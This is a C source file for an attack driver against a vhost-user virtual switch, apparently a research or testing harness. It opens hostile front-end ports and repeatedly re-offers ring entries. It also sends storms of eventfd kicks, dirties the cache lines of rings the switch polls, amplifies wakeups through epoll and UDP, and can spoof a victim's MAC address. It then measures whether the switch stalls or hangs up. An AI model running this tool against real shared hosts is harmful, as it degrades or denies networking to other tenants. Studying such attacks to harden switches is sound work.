/* An attacker of a vhost-user switch, which shares no code with it: a front end and a driver that perform one attack
 * at low cost. It fills its rings once, and then only offers the same entries again, so that it uses little of the
 * core that it shares with others. */
#include <err.h>
#include <errno.h>
#include <getopt.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

#include "attacks.h"
#include "calls.h"
#include "port.h"

enum {
    SINKS_MAX = 32,
    /* If no entry is taken for this long, the switch will not take any. The longest burst seen took 4 s. */
    SETTLE_S_MAX = 10,
    CLOSED_EVERY = 64,   /* iterations between two checks whether the switch has hung up */
    KICKS = 64,          /* in an iteration of a storm */
    DIRTY_ROUNDS = 8, /* over all rings, in an iteration */
};

struct settings {
    const struct attack *attack; /* NULL: sinks only */
    struct attack changed;
    const char *socket;
    const char *sinks[SINKS_MAX];
    unsigned sink_count;
    unsigned ring_size;
    unsigned sink_ring_size;
    unsigned regions;
    unsigned long entries;
    unsigned receivers;
    double seconds;
    long pause_ns;
    bool listens;
    bool holds;
    bool orders;
    uint8_t mac[6];
    uint8_t victim[6];
    uint8_t to[6];
};

struct attacker {
    struct settings settings;
    struct port port;
    struct port sinks[SINKS_MAX];
    bool attacks;
    bool closed;
    unsigned long turns;
};

static double now(void)
{
    struct timespec time;

    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void parse_mac(const char *text, uint8_t mac[6])
{
    unsigned bytes[6];

    if (sscanf(text, "%x:%x:%x:%x:%x:%x", bytes, bytes + 1, bytes + 2, bytes + 3, bytes + 4, bytes + 5) != 6)
        errx(2, "%s is no MAC address", text);
    for (unsigned i = 0; i < 6; i++)
        mac[i] = (uint8_t)bytes[i];
}

static void pin(const char *core)
{
    cpu_set_t set;

    CPU_ZERO(&set);
    CPU_SET(atoi(core), &set);
    if (sched_setaffinity(0, sizeof set, &set) != 0)
        err(1, "core %s", core);
}

/* Runs before ordinary threads, if the system allows it: only then is a ring checked every 100 us on time. */
static void favour(const char *priority)
{
    struct sched_param parameters = {.sched_priority = atoi(priority)};

    if (sched_setscheduler(0, SCHED_FIFO, &parameters) != 0)
        warn("--fifo %s needs CAP_SYS_NICE", priority);
}

static const char usage[] =
    "attacker --attack NAME --socket PATH [--sink PATH]... [options]\n"
    "attacker --sink PATH... [options]                    only receives\n"
    "attacker --list                                      what there is: see attacks.h\n"
    "  --seconds N     then ends (10)\n"
    "  --hold          attaches and is quiet\n"
    "  --orders        reads \"attack\", \"hold\" and \"end\" from standard input, and answers each\n"
    "  --sink-mode M   plain, large, onebyte, zero, tiny, dirty; without it: the attack's own\n"
    "  --size N        bytes of a frame      --mss N        of a segment\n"
    "  --ring N        entries (32768)       --sink-ring N  (32768)\n"
    "  --packed        packed rings          --queues N     queue pairs that attack\n"
    "  --regions N     memory regions, up to 509\n"
    "  --mac A         its source address    --dst A        where frames go\n"
    "  --victim A      the address that `steal` takes\n"
    "  --entries N     of call-epoll (1000000)   --receivers N  of call-udp (1000)\n"
    "  --pause-us N    between two looks (100)   --core N       to run on\n"
    "  --fifo N        priority under SCHED_FIFO\n"
    "  --listen        the switch connects\n";

enum option_id {
    OPT_ATTACK = 1, OPT_SOCKET, OPT_SINK, OPT_LIST, OPT_SECONDS, OPT_HOLD, OPT_ORDERS, OPT_MODE, OPT_SIZE, OPT_MSS,
    OPT_RING, OPT_SINK_RING, OPT_PACKED, OPT_QUEUES, OPT_REGIONS, OPT_MAC, OPT_DST, OPT_VICTIM, OPT_ENTRIES,
    OPT_RECEIVERS, OPT_PAUSE, OPT_CORE, OPT_FIFO, OPT_LISTEN,
};

static const struct option options[] = {
    {"attack", required_argument, NULL, OPT_ATTACK},   {"socket", required_argument, NULL, OPT_SOCKET},
    {"sink", required_argument, NULL, OPT_SINK},       {"list", no_argument, NULL, OPT_LIST},
    {"seconds", required_argument, NULL, OPT_SECONDS}, {"hold", no_argument, NULL, OPT_HOLD},
    {"orders", no_argument, NULL, OPT_ORDERS},         {"sink-mode", required_argument, NULL, OPT_MODE},
    {"size", required_argument, NULL, OPT_SIZE},       {"mss", required_argument, NULL, OPT_MSS},
    {"ring", required_argument, NULL, OPT_RING},       {"sink-ring", required_argument, NULL, OPT_SINK_RING},
    {"packed", no_argument, NULL, OPT_PACKED},         {"queues", required_argument, NULL, OPT_QUEUES},
    {"regions", required_argument, NULL, OPT_REGIONS}, {"mac", required_argument, NULL, OPT_MAC},
    {"dst", required_argument, NULL, OPT_DST},         {"victim", required_argument, NULL, OPT_VICTIM},
    {"entries", required_argument, NULL, OPT_ENTRIES}, {"receivers", required_argument, NULL, OPT_RECEIVERS},
    {"pause-us", required_argument, NULL, OPT_PAUSE},  {"core", required_argument, NULL, OPT_CORE},
    {"fifo", required_argument, NULL, OPT_FIFO},       {"listen", no_argument, NULL, OPT_LISTEN},
    {0},
};

static unsigned number(const char *text, unsigned long least, unsigned long most)
{
    char *end;
    unsigned long value = strtoul(text, &end, 10);

    if (*end != '\0' || value < least || value > most)
        errx(2, "%s is not a number from %lu to %lu", text, least, most);
    return (unsigned)value;
}

static void add_sink(struct settings *settings, const char *path)
{
    if (settings->sink_count == SINKS_MAX)
        errx(2, "more than %d sinks", SINKS_MAX);
    settings->sinks[settings->sink_count++] = path;
}

/* Options that change the attack. */
static void change(struct attack *attack, int id, const char *value)
{
    switch (id) {
    case OPT_MODE:
        attack->mode = sink_mode_named(value);
        break;
    case OPT_SIZE:
        attack->len = number(value, 1, 200000);
        break;
    case OPT_MSS:
        attack->mss = number(value, 0, 65535);
        break;
    case OPT_QUEUES:
        attack->pairs = number(value, 1, QUEUE_PAIRS_MAX);
        break;
    case OPT_PACKED:
        attack->packed = true;
        break;
    default:
        fputs(usage, stderr);
        exit(2);
    }
}

static void set(struct settings *settings, int id, const char *value)
{
    switch (id) {
    case OPT_ATTACK:
        settings->attack = &settings->changed;
        break;
    case OPT_SOCKET:
        settings->socket = value;
        break;
    case OPT_SINK:
        add_sink(settings, value);
        break;
    case OPT_LIST:
        attack_list();
        exit(0);
    case OPT_SECONDS:
        settings->seconds = atof(value);
        break;
    case OPT_HOLD:
        settings->holds = true;
        break;
    case OPT_ORDERS:
        settings->orders = true;
        break;
    case OPT_RING:
        settings->ring_size = number(value, 1, 32768);
        break;
    case OPT_SINK_RING:
        settings->sink_ring_size = number(value, 1, 32768);
        break;
    case OPT_REGIONS:
        settings->regions = number(value, 1, REGIONS_MAX);
        break;
    case OPT_MAC:
        parse_mac(value, settings->mac);
        break;
    case OPT_DST:
        parse_mac(value, settings->to);
        break;
    case OPT_VICTIM:
        parse_mac(value, settings->victim);
        break;
    case OPT_ENTRIES:
        settings->entries = number(value, 1, 100000000);
        break;
    case OPT_RECEIVERS:
        settings->receivers = number(value, 1, 100000);
        break;
    case OPT_PAUSE:
        settings->pause_ns = 1000L * number(value, 0, 1000000);
        break;
    case OPT_CORE:
        pin(value);
        break;
    case OPT_FIFO:
        favour(value);
        break;
    case OPT_LISTEN:
        settings->listens = true;
        break;
    default:
        change(&settings->changed, id, value);
        break;
    }
}

static void read_options(struct settings *settings, int argc, char **argv)
{
    *settings = (struct settings){
        .ring_size = 32768,
        .sink_ring_size = 32768,
        .regions = 1,
        .entries = 1000000,
        .receivers = 1000,
        .seconds = 10,
        .pause_ns = 100000,
        .mac = {0x02, 0xaa, 0, 0, 0, 0x01},
        .victim = {0x02, 0, 0, 0, 0, 0x01},
        .to = {0x02, 0xaa, 0, 0, 0x01, 0},
    };
    /* Read the attack first, wherever it stands: other options change it. */
    for (int id; (id = getopt_long(argc, argv, "", options, NULL)) != -1;)
        if (id == OPT_ATTACK)
            settings->changed = *attack_named(optarg);
    optind = 1;
    for (int id; (id = getopt_long(argc, argv, "", options, NULL)) != -1;)
        set(settings, id, optarg);
    if (optind != argc || (settings->attack == NULL) != (settings->socket == NULL) ||
        (settings->attack == NULL && settings->sink_count == 0)) {
        fputs(usage, stderr);
        exit(2);
    }
    if (settings->attack != NULL && settings->sink_count < settings->attack->sinks)
        errx(2, "%s needs %u sinks", settings->attack->name, settings->attack->sinks);
}

static void open_sinks(struct attacker *attacker, int call)
{
    const struct settings *settings = &attacker->settings;
    const struct attack *attack = &settings->changed;

    for (unsigned i = 0; i < settings->sink_count; i++) {
        struct port_options sink = {
            .socket = settings->sinks[i],
            .listens = settings->listens,
            .pairs = attack->sink_pairs == 0 ? 1 : attack->sink_pairs,
            .ring_size = settings->sink_ring_size,
            .regions = 1,
            .packed = attack->packed,
            .indirect = attack->packed || attack->indirect,
            .calls = call >= 0,
            .call = call,
            .receives = attack->mode,
        };
        memcpy(sink.mac, settings->to, 6);
        sink.mac[5] = (uint8_t)(sink.mac[5] + i);
        port_open(&attacker->sinks[i], &sink);
        port_announce(&attacker->sinks[i]);
    }
}

static bool spans_regions(const struct attack *attack)
{
    return attack->layout == SPAN_508 || attack->layout == SPANS_1024;
}

static void open_attack(struct attacker *attacker, int call)
{
    const struct settings *settings = &attacker->settings;
    const struct attack *attack = settings->attack;
    struct port_options options = {
        .socket = settings->socket,
        .listens = settings->listens,
        .pairs = attack->pairs == 0 ? 1 : attack->pairs,
        .ring_size = settings->ring_size,
        .regions = spans_regions(attack) ? REGIONS_MAX : settings->regions,
        .packed = attack->packed,
        .calls = call >= 0,
        .call = call,
        .receives = SINK_PLAIN,
    };

    memcpy(options.mac, settings->mac, 6);
    port_open(&attacker->port, &options);
    attack_fill(attack, &attacker->port, settings->to, attack->steals ? settings->victim : settings->mac);
}

static int open_call(const struct settings *settings)
{
    enum call_kind kind = settings->changed.call;
    unsigned long made = 0;

    if (kind == CALL_UDP)
        return call_broadcast_by_udp(settings->receivers);
    if (kind == CALL_NONE)
        return -1;
    int call = call_watched_by_epoll(settings->entries, &made);
    fprintf(stderr, "%lu epoll entries\n", made);
    return call;
}

static void storm(const struct port *port)
{
    uint64_t one = 1;

    for (unsigned i = 0; i < KICKS; i++)
        if (write(port->kick, &one, sizeof one) != sizeof one)
            return; /* full: the switch does not read it */
}

/* Offers a frame on each ring, and then writes to the cache lines of the rings that the switch polls. */
static void dirty(struct port *port)
{
    for (unsigned pair = 0; pair < port->options.pairs; pair++)
        ring_turn(&port->transmit[pair], port->transmit[pair].taken + 1);
    for (unsigned i = 0; i < DIRTY_ROUNDS; i++)
        for (unsigned pair = 0; pair < port->options.pairs; pair++)
            ring_dirty(&port->transmit[pair]);
}

/* Whether the switch has hung up on any port. */
static bool is_closed(const struct attacker *attacker)
{
    for (unsigned i = 0; i < attacker->settings.sink_count; i++)
        if (frontend_is_closed(&attacker->sinks[i].frontend))
            return true;
    return attacker->settings.attack != NULL && frontend_is_closed(&attacker->port.frontend);
}

static void turn(struct attacker *attacker)
{
    const struct attack *attack = attacker->settings.attack;

    for (unsigned i = 0; i < attacker->settings.sink_count; i++)
        port_receive(&attacker->sinks[i]);
    if (attacker->turns++ % CLOSED_EVERY == 0 && is_closed(attacker))
        attacker->closed = true;
    if (attack == NULL)
        return;
    port_receive(&attacker->port);
    if (attacker->attacks && attack->dirties) {
        dirty(&attacker->port);
        return;
    }
    for (unsigned pair = 0; pair < attacker->port.options.pairs; pair++) {
        if (attacker->attacks)
            ring_turn(&attacker->port.transmit[pair], attack->once ? 1 : UINT64_MAX);
        else
            ring_settle(&attacker->port.transmit[pair]);
    }
    if (attacker->attacks && attack->kicks)
        storm(&attacker->port);
}

/* Stops offering, and waits until the switch has taken what is offered, or takes nothing any more. */
static void quiet(struct attacker *attacker)
{
    double deadline = now() + SETTLE_S_MAX;
    unsigned left = UINT_MAX;

    attacker->attacks = false;
    while (left > 0 && now() < deadline && attacker->settings.attack != NULL) {
        usleep(1000);
        turn(attacker);
        unsigned before = left;
        left = 0;
        for (unsigned pair = 0; pair < attacker->port.options.pairs; pair++)
            left += ring_settle(&attacker->port.transmit[pair]);
        if (left < before)
            deadline = now() + SETTLE_S_MAX;
    }
}

/* Handles an order from standard input, if there is one. Returns whether to continue. */
static bool obey(struct attacker *attacker)
{
    static char line[64];
    static size_t len;

    if (len == sizeof line)
        errx(2, "an order of more than %zu bytes", sizeof line);
    ssize_t n = read(STDIN_FILENO, line + len, sizeof line - len);
    if (n <= 0)
        return false;
    len += (size_t)n;
    for (char *end; (end = memchr(line, '\n', len)) != NULL;) {
        *end = '\0';
        if (strcmp(line, "end") == 0)
            return false;
        if (strcmp(line, "attack") == 0)
            attacker->attacks = true;
        else if (strcmp(line, "hold") == 0)
            quiet(attacker);
        else
            errx(2, "no order %s: attack, hold, end", line);
        puts(line);
        len -= (size_t)(end + 1 - line);
        memmove(line, end + 1, len);
    }
    return true;
}

static void run(struct attacker *attacker)
{
    const struct settings *settings = &attacker->settings;
    struct pollfd input = {settings->orders ? STDIN_FILENO : -1, POLLIN, 0};
    struct timespec pause = {0, settings->pause_ns};
    double end = now() + settings->seconds;

    while (settings->orders || now() < end) {
        if (ppoll(&input, 1, &pause, NULL) > 0 && !obey(attacker))
            return;
        turn(attacker);
        if (attacker->closed && !settings->orders)
            return;
    }
}

static void report(const struct attacker *attacker, double seconds)
{
    const struct settings *settings = &attacker->settings;
    uint64_t offered = 0, taken = 0, looks = 0, dry = 0, received = 0;

    for (unsigned pair = 0; settings->attack != NULL && pair < attacker->port.options.pairs; pair++) {
        const struct ring *ring = &attacker->port.transmit[pair];
        offered += ring->offered;
        taken += ring->taken;
        looks += ring->looks;
        dry += ring->dry;
    }
    for (unsigned i = 0; i < settings->sink_count; i++)
        received += port_received(&attacker->sinks[i]);
    printf("{\"attack\":\"%s\",\"offered\":%llu,\"taken\":%llu,\"looks\":%llu,\"dry\":%llu,\"received\":%llu,"
           "\"closed\":%s,\"seconds\":%.3f}\n",
           settings->attack != NULL ? settings->attack->name : "none", (unsigned long long)offered,
           (unsigned long long)taken, (unsigned long long)looks, (unsigned long long)dry,
           (unsigned long long)received, attacker->closed ? "true" : "false", seconds);
}

int main(int argc, char **argv)
{
    static struct attacker attacker;

    setvbuf(stdout, NULL, _IOLBF, 0);
    prctl(PR_SET_TIMERSLACK, 1000UL);
    read_options(&attacker.settings, argc, argv);
    int call = open_call(&attacker.settings);
    open_sinks(&attacker, call);
    if (attacker.settings.attack != NULL)
        open_attack(&attacker, call);
    puts("ready");
    attacker.attacks = !attacker.settings.holds && !attacker.settings.orders;
    double start = now();
    run(&attacker);
    double seconds = now() - start;
    turn(&attacker);
    report(&attacker, seconds);
    return 0;
}
